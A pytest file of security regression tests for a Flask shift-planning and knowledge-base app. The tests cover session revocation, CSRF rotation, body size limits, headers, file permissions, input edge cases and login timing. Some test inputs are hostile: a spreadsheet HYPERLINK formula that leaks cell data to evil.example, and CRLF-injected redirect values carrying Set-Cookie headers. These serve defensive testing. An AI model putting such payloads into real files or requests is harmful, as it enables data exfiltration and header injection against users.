"""Hardening, round 2 (issue 17; shared/reviews/security-2026-12.md): each finding's reproduction, which failed on
the code before the fix. Both databases where the database is involved."""
from __future__ import annotations

import html
import os
import re
import stat

import pytest
import sqlalchemy as sa

from kb import models as m
from kb.extensions import db
from tests.helpers import PASSWORD, csrf_token, login, make_user


def _signed_in(app, username="leder", role="planner"):
    make_user(app, username, role)
    client = app.test_client()
    assert login(client, username).status_code == 302
    return client


def _cookie(client) -> str:
    return client.get_cookie("session").value


def _with_cookie(app, value: str):
    other = app.test_client()
    other.set_cookie("session", value)
    return other


# -- M4: sessions that end -------------------------------------------------------------------------------------

def test_logout_ends_copies_of_the_session_cookie(app):
    victim = _signed_in(app)
    copy = _cookie(victim)
    assert _with_cookie(app, copy).get("/plans/").status_code == 200
    token = csrf_token(victim, "/plans/")
    assert victim.post("/logout", data={"csrf_token": token}).status_code == 302
    replay = _with_cookie(app, copy).get("/plans/")
    assert replay.status_code == 302 and replay.headers["Location"].startswith("/login")


def test_password_reset_and_deactivation_end_every_session(app):
    victim = _signed_in(app, "vikar")
    copy = _cookie(victim)
    admin = _signed_in(app, "chef", "admin")
    with app.app_context():
        user_id = db.session.scalar(sa.select(m.User.id).where(m.User.username == "vikar"))
    page = admin.get(f"/admin/users/{user_id}/password").get_data(as_text=True)
    token = re.search(r'name="csrf_token"[^>]*value="([^"]+)"', page).group(1)
    fields = set(re.findall(r'name="(password[^"]*)"', page))
    response = admin.post(f"/admin/users/{user_id}/password",
                          data={"csrf_token": token, **{f: "Nyt-kodeord-77" for f in fields}})
    assert response.status_code == 302, response.get_data(as_text=True)[:500]
    assert victim.get("/plans/").status_code == 302  # the victim's own session ended too
    assert _with_cookie(app, copy).get("/plans/").status_code == 302
    # deactivate and reactivate: a cookie from before stays dead (the probe saw it come back to life)
    fresh = app.test_client()
    assert login(fresh, "vikar", "Nyt-kodeord-77").status_code == 302
    before = _cookie(fresh)
    with app.app_context():
        user = db.session.get(m.User, user_id)
        from kb.auth.service import Change, update_user
        actor = db.session.scalar(sa.select(m.User).where(m.User.username == "chef"))
        update_user(actor, user, Change(name=user.name, email=user.email, role=user.role, active=False))
        db.session.commit()
        update_user(actor, user, Change(name=user.name, email=user.email, role=user.role, active=True))
        db.session.commit()
    assert _with_cookie(app, before).get("/plans/").status_code == 302


@pytest.mark.only_backend("sqlite")  # the session cookie, not SQL: once is enough
def test_csrf_token_is_rotated_at_login(app):
    make_user(app, "leder", "planner")
    client = app.test_client()
    before_login = csrf_token(client, "/login")
    assert client.post("/login", data={"username": "leder", "password": PASSWORD,
                                       "csrf_token": before_login}).status_code == 302
    forged = client.post("/plans/new", data={"csrf_token": before_login, "title": "Plantet", "hours_per_fte": "37"})
    assert forged.status_code == 400
    with app.app_context():
        assert db.session.scalar(sa.select(sa.func.count(m.ShiftPlan.id))) == 0


# -- M6: every request body is bounded ------------------------------------------------------------------------

@pytest.mark.only_backend("sqlite")  # refused before any view runs: once is enough
def test_a_large_body_is_refused_before_it_is_read(app, client):
    big = b"x" * (2 * 1024 * 1024)
    response = client.post("/logout", data={"file": (__import__("io").BytesIO(big), "a.bin")},
                           content_type="multipart/form-data")
    assert response.status_code == 413
    assert "for stor" in html.unescape(response.get_data(as_text=True))
    assert "Intet er gemt" in html.unescape(response.get_data(as_text=True))
    # the import page still takes its larger files (a 2 MB CSV is read, and refused only for what it holds)
    editor = _signed_in(app, "redaktoer", "editor")
    token = csrf_token(editor, "/overfoersel/")
    upload = editor.post("/overfoersel/import", content_type="multipart/form-data", data={
        "csrf_token": token, "kind": "task", "file": (__import__("io").BytesIO(b"slug;title\n" + big), "a.csv")})
    assert upload.status_code != 413


# -- L7, headers ----------------------------------------------------------------------------------------------

@pytest.mark.only_backend("sqlite")  # response headers: once is enough
def test_signed_in_pages_are_not_cached_and_permissions_policy_is_set(app, client):
    anonymous = client.get("/")
    assert "no-store" not in anonymous.headers.get("Cache-Control", "")
    assert "camera=()" in anonymous.headers["Permissions-Policy"]
    planner = _signed_in(app)
    for path in ("/plans/", "/", "/api/v1/tasks?limit=1"):
        assert planner.get(path).headers["Cache-Control"] == "private, no-store", path


# -- L8: files with password hashes are the owner's only ------------------------------------------------------

def test_sqlite_file_and_instance_folder_are_owner_only(tmp_path, monkeypatch):
    from kb.app import create_app

    instance = tmp_path / "instance"
    monkeypatch.setenv("KB_INSTANCE_PATH", str(instance))
    database = instance / "kb.db"
    app = create_app({"SQLALCHEMY_DATABASE_URI": f"sqlite:///{database}", "SECRET_KEY": "x", "TESTING": True})
    with app.app_context():
        db.session.execute(sa.text("CREATE TABLE t (x INTEGER)"))
        db.session.commit()
        db.engine.dispose()
    assert stat.S_IMODE(os.stat(instance).st_mode) == 0o700
    for path in (database, *instance.glob("kb.db-*")):
        assert stat.S_IMODE(os.stat(path).st_mode) == 0o600, path


# -- L3: edge inputs are 400/404, never 500 -------------------------------------------------------------------

@pytest.mark.only_backend("sqlite")  # a redirect target check: once is enough
def test_a_line_break_in_next_is_not_followed(app):
    make_user(app, "leder", "planner")
    client = app.test_client()
    token = csrf_token(client, "/login")
    response = client.post("/login?next=/%0aX-Injected:%20yes",
                           data={"username": "leder", "password": PASSWORD, "csrf_token": token})
    assert response.status_code == 302 and response.headers["Location"] == "/"
    assert client.get("/login?next=/%0d%0aSet-Cookie:%20x=1").status_code == 302
    assert client.get("/login?next=/plans/").headers["Location"] == "/plans/"


@pytest.mark.parametrize("path", ["/plans/99999999999999999999", "/plans/9223372036854775808.pdf",
                                  "/plans/2147483648/edit", "/redaktion/udkast/99999999999999999999",
                                  "/admin/users/99999999999999999999"])
def test_ids_beyond_the_database_are_not_found(app, path):
    admin = _signed_in(app, "chef", "admin")
    assert admin.get(path).status_code == 404


def test_huge_line_numbers_are_a_bad_request(client):
    for query in ("from=100000000000000000000", "from=9223372036854775807", "from=99999999&to=1"):
        assert client.get(f"/sources/seed-004?{query}").status_code == 400, query
    assert client.get("/sources/seed-004?from=1400&to=1410").status_code == 200


# -- L1: a draft task is not public ---------------------------------------------------------------------------

def test_draft_tasks_are_not_listed_on_competence_and_provision_pages(app, client):
    with app.app_context():
        competence = db.session.scalar(sa.select(m.Competence).where(m.Competence.slug == "it-systemer-hospital"))
        provision = db.session.scalar(sa.select(m.Provision).where(m.Provision.slug == "org-kompetenceprofil-basis"))
        nurse = db.session.scalar(sa.select(m.Profession).where(m.Profession.slug == "sygeplejerske"))
        task = m.Task(slug="hidden-draft-task", title="Zyxwhemmelig kladdeopgave", category="clinical",
                      status="draft", requirements=[m.TaskRequirement(competence=competence, level="required")])
        db.session.add(task)
        db.session.add(m.Rule(slug="hidden-draft-rule", task=task, profession=nurse, effect="conditions",
                              kind="organisational", provision=provision))
        db.session.commit()
    for path in ("/competences/it-systemer-hospital", "/provisions/org-kompetenceprofil-basis"):
        page = client.get(path)
        assert page.status_code == 200
        assert "Zyxwhemmelig" not in page.get_data(as_text=True), path


# -- L2: the plan CSV guards formulas -------------------------------------------------------------------------

def test_plan_csv_keeps_formulas_as_text(app):
    planner = _signed_in(app)
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klik her")'
    with app.app_context():
        task = db.session.scalar(sa.select(m.Task).where(m.Task.slug == "tage-telefonen"))
        task.title = formula
        nurse, service = (db.session.scalar(sa.select(m.Profession).where(m.Profession.slug == s))
                          for s in ("sygeplejerske", "servicemedarbejder"))
        user = db.session.scalar(sa.select(m.User).where(m.User.username == "leder"))
        plan = m.ShiftPlan(title="Plan", owner_id=user.id, items=[m.ShiftPlanItem(
            task=task, from_profession=nurse, to_profession=service, occurrences_per_week=5, minutes_each=3)])
        db.session.add(plan)
        db.session.commit()
        plan_id = plan.id
    text = planner.get(f"/plans/{plan_id}.csv").get_data(as_text=True)
    assert "'" + formula.replace('"', '""') in text or "'" + formula in text
    assert not re.search(r"(^|;)=HYPERLINK", text, re.M)


# -- L5: login answers do not tell which usernames exist ------------------------------------------------------

@pytest.mark.only_backend("sqlite")  # hash timing in Python: once is enough
def test_a_login_for_an_unknown_user_checks_a_password_hash_too(app, monkeypatch):
    """Timing: scrypt runs for an unknown (or blocked) user as for a real one (the probe saw 4 ms against 80 ms)."""
    from kb.auth import passwords

    calls = []
    real = passwords.check_password_hash
    monkeypatch.setattr(passwords, "check_password_hash", lambda h, p: calls.append(h) or real(h, p))
    make_user(app, "findes", "reader")
    for username in ("findes", "findes-ikke"):
        client = app.test_client()
        token = csrf_token(client, "/login")
        response = client.post("/login", data={"username": username, "password": "forkert-kode-1",
                                               "csrf_token": token})
        assert response.status_code == 200
    assert len(calls) == 2 and all(h.startswith("scrypt:") for h in calls)
